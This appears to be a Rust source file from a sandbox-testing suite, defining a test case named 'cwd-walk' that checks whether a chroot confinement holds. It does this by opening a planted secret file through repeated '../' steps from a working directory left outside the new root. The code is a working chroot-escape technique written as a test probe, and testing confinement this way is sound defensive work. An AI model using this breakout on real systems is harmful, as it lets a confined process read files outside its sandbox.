use std::io;

use crate::attack::{Attack, Control, Judge};
use crate::attacks::raw;
use crate::needs;
use crate::stage::Stage;

pub(super) const ROW: Attack = Attack {
    id: "C1",
    name: "cwd-walk",
    what: "walks by `..` from a current folder that was left outside the new root",
    prepare,
    attack,
    control: Control::Chroot,
    needs: &[&needs::USERNS],
    ..Attack::ROW
};

fn prepare(stage: &mut Stage) -> io::Result<Judge> {
    let (path, judge) = stage.secret("secret")?;
    stage.path_arg(path.strip_prefix("/").unwrap_or(&path));
    Ok(judge)
}

fn attack(args: &[String]) -> io::Result<()> {
    let path = raw::text(args, 0)?;
    for depth in 0..16 {
        if let Ok(found) =
            raw::openat(libc::AT_FDCWD, &format!("{}{path}", "../".repeat(depth)), libc::O_RDONLY)
        {
            return raw::show(found);
        }
    }
    Err(io::ErrorKind::NotFound.into())
}
